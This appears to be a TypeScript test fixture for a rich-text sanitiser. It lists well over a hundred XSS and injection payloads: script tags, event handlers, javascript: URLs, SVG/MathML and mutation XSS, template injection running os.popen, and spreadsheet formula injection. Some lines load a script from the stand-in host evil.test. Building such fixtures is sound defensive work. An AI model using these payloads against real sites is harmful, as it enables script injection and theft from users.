/** The mark that every payload sets when it runs. */
const RUN = 'window.__xss=1';
const CALL = 'alert(1)';

/** Script tags, well-formed and malformed. */
const SCRIPTS = [
  `<script>${RUN}</script>`,
  `<SCRIPT>${RUN}</SCRIPT>`,
  `<script >${RUN}</script >`,
  `<script\n>${RUN}</script\n>`,
  `<script/x>${RUN}</script>`,
  `<script src="data:text/javascript,${RUN}"></script>`,
  `<script src=//evil.test/x.js></script>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<<script>${RUN}//<</script>`,
  `<script>${RUN}<!--</script>-->`,
  `</script><script>${RUN}</script>`,
  `<script type="module">${RUN}</script>`,
  `<script async src="data:,${RUN}"></script>`,
  `<script xlink:href="data:,${RUN}"></script>`,
  `<noscript><p title="</noscript><script>${RUN}</script>">`,
];

/** Attributes that run automatically or on pointer events. */
const HANDLERS = [
  `<img src=x onerror=${RUN}>`,
  `<img src="x" onerror="${RUN}">`,
  `<IMG SRC=x OnErRoR=${RUN}>`,
  `<img/src=x/onerror=${RUN}>`,
  `<img src=x onerror\n=\n${RUN}>`,
  `<img src=x:x onerror=${CALL}>`,
  `<img src=x onload=${RUN}>`,
  `<img src=x onerror="eval(atob('d2luZG93Ll9feHNzPTE='))">`,
  `<img src=x onerror=&#119;indow.__xss&#61;1>`,
  `<img src=x onerror=window[&quot;__xss&quot;]=1>`,
  `<img """><script>${RUN}</script>">`,
  `<img src="x\`\`onerror=${RUN}">`,
  `<img srcset="x 1x" onerror=${RUN}>`,
  `<body onload=${RUN}>`,
  `<body onpageshow=${RUN}>`,
  `<body onhashchange=${RUN}>`,
  `<div onmouseover=${RUN}>hover</div>`,
  `<div onpointerenter=${RUN}>point</div>`,
  `<p onclick=${RUN}>click</p>`,
  `<input autofocus onfocus=${RUN}>`,
  `<select autofocus onfocus=${RUN}></select>`,
  `<textarea autofocus onfocus=${RUN}></textarea>`,
  `<button autofocus onfocus=${RUN}>b</button>`,
  `<a href=# autofocus tabindex=1 onfocus=${RUN}>a</a>`,
  `<video src=x onerror=${RUN}></video>`,
  `<video><source onerror=${RUN}></video>`,
  `<audio src=x onerror=${RUN}></audio>`,
  `<details open ontoggle=${RUN}>d</details>`,
  `<marquee onstart=${RUN}>m</marquee>`,
  `<iframe onload=${RUN}></iframe>`,
  `<object data=x onerror=${RUN}></object>`,
  `<embed src=x onerror=${RUN}>`,
  `<style onload=${RUN}></style>`,
  `<link rel=stylesheet href=x onerror=${RUN}>`,
  `<table background="javascript:${RUN}"><tr><td>t</table>`,
  `<p style="animation-name:x" onanimationstart=${RUN}>a</p>`,
  `<p contenteditable onblur=${RUN} onfocus=${RUN} autofocus>c</p>`,
  `<x onclick=${RUN} tabindex=1 id=x>custom</x>`,
];

/** URLs that contain code. */
const ADDRESSES = [
  `<a href="javascript:${RUN}">a</a>`,
  `<a href="JaVaScRiPt:${RUN}">a</a>`,
  `<a href=" javascript:${RUN}">a</a>`,
  `<a href="java\tscript:${RUN}">a</a>`,
  `<a href="java&#10;script:${RUN}">a</a>`,
  `<a href="&#106;avascript:${RUN}">a</a>`,
  `<a href="&#x6A;avascript:${RUN}">a</a>`,
  `<a href="javascript&colon;${RUN}">a</a>`,
  `<a href="\u0001javascript:${RUN}">a</a>`,
  `<a href="data:text/html,<script>${RUN}</script>">a</a>`,
  `<a href="data:text/html;base64,PHNjcmlwdD53aW5kb3cuX194c3M9MTwvc2NyaXB0Pg==">a</a>`,
  `<a href="vbscript:${CALL}">a</a>`,
  `<a xlink:href="javascript:${RUN}">a</a>`,
  `<iframe src="javascript:${RUN}"></iframe>`,
  `<iframe srcdoc="<script>parent.${RUN.slice(7)}</script>"></iframe>`,
  `<iframe src="data:text/html,<script>parent.__xss=1</script>"></iframe>`,
  `<form action="javascript:${RUN}"><button>go</button></form>`,
  `<form><button formaction="javascript:${RUN}">go</button></form>`,
  `<input type=image src=x formaction="javascript:${RUN}">`,
  `<object data="javascript:${RUN}"></object>`,
  `<embed src="javascript:${RUN}">`,
  `<base href="javascript:/"><a href="/${RUN}">b</a>`,
  `<meta http-equiv=refresh content="0;url=javascript:${RUN}">`,
  `<meta http-equiv=Set-Cookie content="token=stolen">`,
  `<link rel=import href="data:text/html,<script>${RUN}</script>">`,
  `<img src="javascript:${RUN}">`,
  `<area href="javascript:${RUN}">`,
  `<blockquote cite="javascript:${RUN}">q</blockquote>`,
];

/** Other languages embedded in HTML. */
const FOREIGN = [
  `<svg onload=${RUN}>`,
  `<svg/onload=${RUN}>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><script href="data:,${RUN}"/></svg>`,
  `<svg><a xlink:href="javascript:${RUN}"><text y=20>s</text></a></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<svg><set onbegin=${RUN} attributeName=x>`,
  `<svg><a><animate attributeName=href values="javascript:${RUN}" /><text y=20>x</text></a></svg>`,
  `<svg><foreignObject><iframe onload=${RUN}></iframe></foreignObject></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x onload=${RUN}>#x"></use></svg>`,
  `<svg><image href=x onerror=${RUN}></svg>`,
  `<svg><style><img src=x onerror=${RUN}></style></svg>`,
  `<svg><desc><img src=x onerror=${RUN}></desc></svg>`,
  `<math href="javascript:${RUN}">m</math>`,
  `<math><maction actiontype="statusline#x" xlink:href="javascript:${RUN}">m</maction></math>`,
  `<math><mtext><img src=x onerror=${RUN}></mtext></math>`,
  `<style>@import "data:text/css,*{x:expression(${RUN})}";</style>`,
  `<style>*{background:url("javascript:${RUN}")}</style>`,
  `<p style="background:url(javascript:${RUN})">s</p>`,
  `<p style="width:expression(${RUN})">s</p>`,
  `<p style="position:fixed;inset:0;z-index:99999;background:red">over</p>`,
  `<xml><i><b><img src=x onerror=${RUN}></b></i></xml>`,
  `<?xml version="1.0"?><html><script>${RUN}</script></html>`,
  `<!--[if gte IE 4]><script>${RUN}</script><![endif]-->`,
  `<![CDATA[<script>${RUN}</script>]]>`,
];

/** Markup that changes when a browser parses and serialises it (mutation XSS). */
const MUTATIONS = [
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
  `<svg></p><style><a id="</style><img src=1 onerror=${RUN}>">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${RUN}>`,
  `<math><annotation-xml encoding="text/html"><style><img src=x onerror=${RUN}></style></annotation-xml></math>`,
  `<noembed><img title="</noembed><img src=x onerror=${RUN}>"></noembed>`,
  `<xmp><p title="</xmp><img src=x onerror=${RUN}>"></xmp>`,
  `<textarea><img title="</textarea><img src=x onerror=${RUN}>"></textarea>`,
  `<title><img title="</title><img src=x onerror=${RUN}>"></title>`,
  `<iframe><img title="</iframe><img src=x onerror=${RUN}>"></iframe>`,
  `<template><script>${RUN}</script></template>`,
  `<p id="root">clobbers</p><form id=location name=cookie><input name=body></form>`,
  `<listing>&lt;img src=x onerror=${RUN}&gt;</listing>`,
  `<b><p title="</b><img src=x onerror=${RUN}>">x</b>`,
  `<!--><img src=x onerror=${RUN}>-->`,
  `<plaintext><img src=x onerror=${RUN}>`,
];

/** Payloads for other software: templates, quotes that end an attribute, encodings, spreadsheets, logs. */
const WITHOUT_TAGS = [
  `{{constructor.constructor('${RUN}')()}}`,
  `{{7*7}}`,
  `\${${RUN}}`,
  `#{${RUN}}`,
  `%{${RUN}}`,
  `{%import os%}{{os.popen('id')}}`,
  `javascript:${RUN}`,
  `JAVASCRIPT:${RUN}//`,
  `data:text/html;base64,PHNjcmlwdD53aW5kb3cuX194c3M9MTwvc2NyaXB0Pg==`,
  `" onmouseover="${RUN}`,
  `' onmouseover='${RUN}`,
  `" autofocus onfocus=${RUN} x="`,
  `';${RUN};//`,
  `";${RUN};//`,
  `\\";${RUN};//`,
  `\`-${RUN}-\``,
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `&#60;img src=x onerror=${RUN}&#62;`,
  `%3Cscript%3E${RUN}%3C/script%3E`,
  `%253Cimg%2520src=x%2520onerror=${RUN}%253E`,
  `\\u003cscript\\u003e${RUN}\\u003c/script\\u003e`,
  `＜script＞${RUN}＜/script＞`,
  `+ADw-script+AD4-${RUN}+ADw-/script+AD4-`,
  `=HYPERLINK("http://evil.test","x")`,
  `=cmd|' /C calc'!A0`,
  `+1+cmd|' /C calc'!A0`,
  `-2+3+cmd|' /C calc'!A0`,
  `@SUM(1+1)*cmd|' /C calc'!A0`,
  `%{smart_count} |||| %{${RUN}}`,
];

/** Texts that must not run or break the page. */
export const PAYLOADS: readonly string[] = [
  ...SCRIPTS,
  ...HANDLERS,
  ...ADDRESSES,
  ...FOREIGN,
  ...MUTATIONS,
  ...WITHOUT_TAGS,
];

/** What a browser may read as the start of a tag; written here again, so that a mistake in the product's own rule is noticed. */
const TAG = /<\s*[a-z!/?]/i;
export const isMarked = (text: string): boolean => TAG.test(text);
/** The payloads with mark-up, and those without. */
export const MARKED = PAYLOADS.filter(isMarked);
export const PLAIN = PAYLOADS.filter((payload) => !isMarked(payload));

/** Closes constructs that would swallow the next payload. */
const END =
  '--></script></style></textarea></title></xmp></noscript></noembed></iframe></plaintext>';
/** Rich texts with all payloads: each in its own paragraph, and joined together. */
export const SEPARATE_PAYLOADS = PAYLOADS.map(
  (payload) => `<h2>${payload}${END}</h2><p>${payload}${END}</p>`,
).join('');
export const JOINED_PAYLOADS = PAYLOADS.join('');
